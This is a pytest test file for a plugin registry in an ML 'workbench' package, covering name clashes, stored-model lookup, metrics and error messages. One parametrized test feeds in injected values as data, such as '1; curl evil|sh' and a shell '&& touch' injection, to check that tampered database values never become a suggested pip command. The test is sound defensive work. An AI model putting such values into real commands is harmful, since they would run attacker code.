"""Names on offer: each belongs to one plugin, or is said with its distribution."""

from __future__ import annotations

from collections.abc import Callable
from itertools import permutations
from pathlib import Path
from typing import Any

import pytest

from workbench.contract.hooks import MetricSpec, ModelSpec, TaskSpec
from workbench.contract.metric import Metric
from workbench.contract.task import Task
from workbench.discovery import Plugin
from workbench.errors import PluginError, UnknownName
from workbench.installed import DISTRIBUTION
from workbench.registry import Registry, load_class, metric_of


def plugin(
    distribution: str, *models: str, tasks: tuple[str, ...] = (), name: str | None = None, task: str = "recommend"
) -> Plugin:
    return Plugin(
        name or distribution,
        distribution,
        "1.0",
        "loaded",
        tasks=tuple(TaskSpec(each, f"{distribution}:Task", "a task") for each in tasks),
        models=tuple(ModelSpec(each, task, f"{distribution}:Model", "a model") for each in models),
    )


OURS = plugin(DISTRIBUTION, "als", "ease", tasks=("recommend",))


def test_a_name_that_one_plugin_offers_is_its_own() -> None:
    registry = Registry([OURS, plugin("acme", "recent", tasks=("rank",))])
    offer = registry.model("recommend", "recent")
    assert (offer.name, offer.plugin.distribution, offer.clash) == ("recent", "acme", "")
    assert registry.task("rank").plugin.distribution == "acme"
    assert list(registry.models("recommend")) == ["als", "ease", "recent"]
    assert list(registry.tasks) == ["recommend", "rank"]


def test_a_name_that_two_others_offer_is_refused_with_both_qualified_names() -> None:
    for order in permutations([OURS, plugin("acme", "recent"), plugin("zeta", "recent")]):
        registry = Registry(order)
        with pytest.raises(PluginError) as caught:
            registry.model("recommend", "recent")
        names = [f"{each.distribution}:recent" for each in order if each is not OURS]
        assert str(caught.value) == f"model 'recent' is offered by 2 plugins; say {' or '.join(names)}"
        assert "recent" not in registry.models("recommend")
        for distribution in ("acme", "zeta"):
            offer = registry.model("recommend", f"{distribution}:recent")
            assert offer.plugin.distribution == distribution
            assert offer.spec.name == "recent"
            assert offer.clash == ({"acme", "zeta"} - {distribution}).pop()


def test_three_claimants_are_all_named() -> None:
    registry = Registry([plugin(name, "recent") for name in "abc"])
    with pytest.raises(PluginError, match="offered by 3 plugins; say a:recent or b:recent or c:recent"):
        registry.model("recommend", "recent")


def test_a_name_that_comes_with_workbench_stays_with_it() -> None:
    for order in permutations([OURS, plugin("acme", "als"), plugin("zeta", "als")]):
        registry = Registry(order)
        assert registry.model("recommend", "als").plugin is OURS
        for distribution in ("acme", "zeta"):
            assert registry.model("recommend", f"{distribution}:als").plugin.distribution == distribution


def test_a_task_that_comes_with_workbench_stays_with_it() -> None:
    for order in permutations([OURS, plugin("acme", tasks=("recommend",))]):
        registry = Registry(order)
        assert registry.task("recommend").plugin is OURS
        assert registry.task("acme:recommend").plugin.distribution == "acme"


def test_two_entry_points_of_one_distribution_are_told_apart() -> None:
    registry = Registry([plugin("acme", "recent", name="one"), plugin("acme", "recent", name="two")])
    with pytest.raises(PluginError, match="offered by 2 plugins; say one:recent or two:recent"):
        registry.model("recommend", "recent")
    assert registry.model("recommend", "two:recent").plugin.name == "two"


def test_equal_names_for_different_tasks_do_not_clash() -> None:
    registry = Registry([plugin("acme", "recent"), plugin("zeta", "recent", task="rank")])
    assert registry.model("recommend", "recent").plugin.distribution == "acme"
    assert registry.model("rank", "recent").plugin.distribution == "zeta"


def test_a_plugin_that_is_not_loaded_offers_nothing() -> None:
    blocked = Plugin("acme", "acme", "1.0", "blocked", "switched off", models=plugin("acme", "recent").models)
    assert Registry([blocked]).models("recommend") == {}


def stored(registry: Registry, name: str, distribution: str = "acme", version: str = "1.0") -> str:
    return registry.stored_model("recommend", name, distribution, version).name


def test_a_stored_model_is_found_by_its_plugin_whatever_it_is_called_now() -> None:
    both = Registry([OURS, plugin("acme", "recent"), plugin("zeta", "recent")])
    assert stored(both, "recent") == "acme:recent"
    assert stored(both, "acme:recent") == "acme:recent"
    alone = Registry([OURS, plugin("acme", "recent")])
    assert stored(alone, "acme:recent") == stored(alone, "recent") == "recent"
    assert stored(alone, "als", DISTRIBUTION) == "als"


def test_a_stored_model_is_never_taken_for_another_plugins_of_that_name() -> None:
    with pytest.raises(PluginError) as caught:
        stored(Registry([OURS, plugin("zeta", "recent")]), "recent")
    assert str(caught.value) == (
        "model 'recent' is of acme 1.0, which is not installed; get it back, if you know it (the database names it): "
        "pip install acme==1.0"
    )


@pytest.mark.parametrize(
    ("distribution", "version"),
    [("x' && touch INJECTED && echo '", "1"), ("acme", "1; curl evil|sh"), ("--index-url=evil", "1"), ("a\nb", "1")],
)
def test_no_command_is_repeated_that_a_database_has_made_up(distribution: str, version: str) -> None:
    with pytest.raises(PluginError) as caught:
        stored(Registry([OURS]), "recent", distribution, version)
    assert "pip" not in str(caught.value)
    assert "no name and version of a distribution: the database is damaged" in str(caught.value)


def test_of_a_stored_task_that_is_gone_it_is_said_what_became_of_its_plugin() -> None:
    def said(*plugins: Plugin) -> str:
        with pytest.raises(PluginError) as caught:
            Registry(plugins).stored_task("rank", "acme", "1.0")
        return str(caught.value)

    again = "get it back: pip install acme==1.0"
    assert said(OURS).startswith("task 'rank' is of acme 1.0, which is not installed; get it back, if you know it")
    assert said(Plugin("ranking", "acme", "2.0", "failed", "ValueError: no")) == (
        "task 'rank' is of acme 1.0, whose plugin ranking is failed: ValueError: no"
    )
    newer = Plugin("ranking", "acme", "2.0", "loaded")
    assert (
        said(newer) == f"task 'rank' is of acme 1.0, but acme 2.0, which is installed, has none of that name; {again}"
    )


def test_a_plugins_names_are_those_that_users_say() -> None:
    ours, theirs = OURS, plugin("acme", "als", "recent", tasks=("recommend",))
    registry = Registry([ours, theirs])
    assert [registry.name_of(spec, theirs) for spec in theirs.models] == ["acme:als", "recent"]
    assert [registry.name_of(spec, theirs) for spec in theirs.tasks] == ["acme:recommend"]
    assert [registry.name_of(spec, ours) for spec in ours.models] == ["als", "ease"]


class Rank(Task[Any]):
    """Knows one metric, and lists another."""

    metrics = (Metric("ndcg@10", ""),)

    def metric(self, name: str) -> Metric:
        return Metric(name, "") if name == "ndcg@5" else super().metric(name)


def measuring(distribution: str, *metrics: str, task: str = "rank") -> Plugin:
    specs = tuple(MetricSpec(name, task, f"{distribution}:compute", "a metric", name != "loss") for name in metrics)
    return Plugin(distribution, distribution, "1.0", "loaded", metrics=specs)


def test_a_plugins_metric_is_its_own_and_has_its_direction() -> None:
    registry = Registry([measuring("acme", "loss", "surprise"), measuring("zeta", "surprise", task="rate")])
    offers = registry.metrics("rank", Rank())
    assert list(offers) == ["loss", "surprise"]
    assert registry.metric("rank", Rank(), "surprise").spec.load == "acme:compute"
    assert metric_of(offers["loss"]) == Metric("loss", "a metric", larger_is_better=False)
    assert registry.metrics("next", Rank()) == {}


def test_metrics_clash_as_models_do() -> None:
    for order in permutations(
        [measuring(DISTRIBUTION, "ours"), measuring("acme", "ours", "m"), measuring("zeta", "m")]
    ):
        registry = Registry(order)
        offers = registry.metrics("rank", Rank())
        assert set(offers) == {"ours", "acme:ours", "acme:m", "zeta:m"}
        assert offers["ours"].plugin.first_party
        with pytest.raises(PluginError, match=r"metric 'm' is offered by 2 plugins; say (acme|zeta):m or "):
            registry.metric("rank", Rank(), "m")


@pytest.mark.parametrize("name", ["ndcg@10", "ndcg@5"])
@pytest.mark.parametrize("distribution", ["acme", DISTRIBUTION])
def test_a_metric_that_the_task_knows_stays_the_tasks(name: str, distribution: str) -> None:
    (offer,) = Registry([measuring(distribution, name)]).metrics("rank", Rank()).values()
    assert (offer.name, offer.clash) == (f"{distribution}:{name}", "the task")
    assert metric_of(offer).name == f"{distribution}:{name}"


def test_an_unknown_metric_offers_the_nearest_of_the_tasks_and_the_plugins() -> None:
    registry = Registry([measuring("acme", "surprise")])
    for name, near in (("suprise", "surprise"), ("ndgc@10", "ndcg@10")):
        message = f"no metric '{name}'; did you mean '{near}'? (workbench metrics --task rank lists them)"
        with pytest.raises(UnknownName) as caught:
            registry.metric("rank", Rank(), name)
        assert str(caught.value) == message


def test_an_unknown_name_offers_the_nearest() -> None:
    registry = Registry([OURS])
    with pytest.raises(UnknownName) as caught:
        registry.task("recommand")
    assert str(caught.value) == "no task 'recommand'; did you mean 'recommend'? (workbench tasks lists them)"
    with pytest.raises(UnknownName, match=r"no model 'eas'; did you mean 'ease'\? \(workbench models --task recommend"):
        registry.model("recommend", "eas")


def test_an_unknown_name_says_which_plugins_did_not_load() -> None:
    failed = Plugin("broken", "acme", "1.0", "failed", "RuntimeError: out of order")
    old = Plugin("old", "zeta", "1.0", "incompatible", "requires automl-workbench >=99")
    with pytest.raises(UnknownName, match="workbench plugins says why broken, old did not load"):
        Registry([OURS, failed, old]).model("recommend", "recent")


def test_what_a_model_requires_is_looked_for_without_importing_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "heavy_library.py").write_text("raise RuntimeError('imported')")
    monkeypatch.syspath_prepend(tmp_path)
    spec = ModelSpec("deep", "recommend", "a:B", "deep", requires=("heavy_library", "no_such_library", "gone.sub"))
    offer = Registry([Plugin("acme", "acme", "1.0", "loaded", models=(spec,))]).model("recommend", "deep")
    assert offer.missing == ("no_such_library", "gone.sub")


def test_a_class_is_loaded_by_its_place() -> None:
    assert load_class("workbench.registry:Registry") is Registry


@pytest.mark.parametrize(
    "where", ["no_such_module:Class", "workbench.registry:Nothing", "workbench.registry", "nonsense"]
)
def test_a_class_that_is_not_there_is_a_plugin_error(where: str) -> None:
    with pytest.raises(PluginError, match=f"{where} cannot be loaded: "):
        load_class(where)


def test_installed_plugins_clash_as_plugins_do(install: Callable[..., Path]) -> None:
    for distribution in ("zeta", "acme"):
        install(
            distribution,
            """
            @hookimpl
            def workbench_models():
                return [ModelSpec("recent", "recommend", "a:B", "c"), ModelSpec("ease", "recommend", "a:C", "d")]
            """,
        )
    registry = Registry.discovered()
    with pytest.raises(PluginError, match="offered by 2 plugins; say acme:recent or zeta:recent"):
        registry.model("recommend", "recent")
    assert registry.model("recommend", "ease").plugin.first_party
    assert registry.model("recommend", "zeta:ease").spec.load == "a:C"
    assert Registry.discovered(["zeta"]).model("recommend", "recent").plugin.distribution == "acme"


def test_everything_on_offer_by_workbench_can_be_loaded() -> None:
    registry = Registry.discovered()
    for task, offer in registry.tasks.items():
        if offer.plugin.first_party:
            load_class(offer.spec.load)
        for model in registry.models(task).values():
            if model.plugin.first_party and not model.missing:
                load_class(model.spec.load)


def test_what_is_missing_is_installed_by_the_extra_of_that_name_where_there_is_one(
    install: Callable[..., Path],
) -> None:
    extra = "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\nProvides-Extra: no_torch\nProvides-Extra: docs\n"
    install("acme", metadata=extra)
    for missing, lines in (
        (("no_torch",), "needs no_torch: pip install 'acme[no_torch]'"),
        (("no_torch", "no_lib"), "needs no_torch, no_lib: pip install 'acme[no_torch]' no_lib"),
    ):
        spec = ModelSpec("deep", "recommend", "acme:Deep", "a model", requires=missing)
        registry = Registry([Plugin("acme", "acme", "1.0", "loaded", models=(spec,))])
        assert registry.model("recommend", "deep").lack == lines
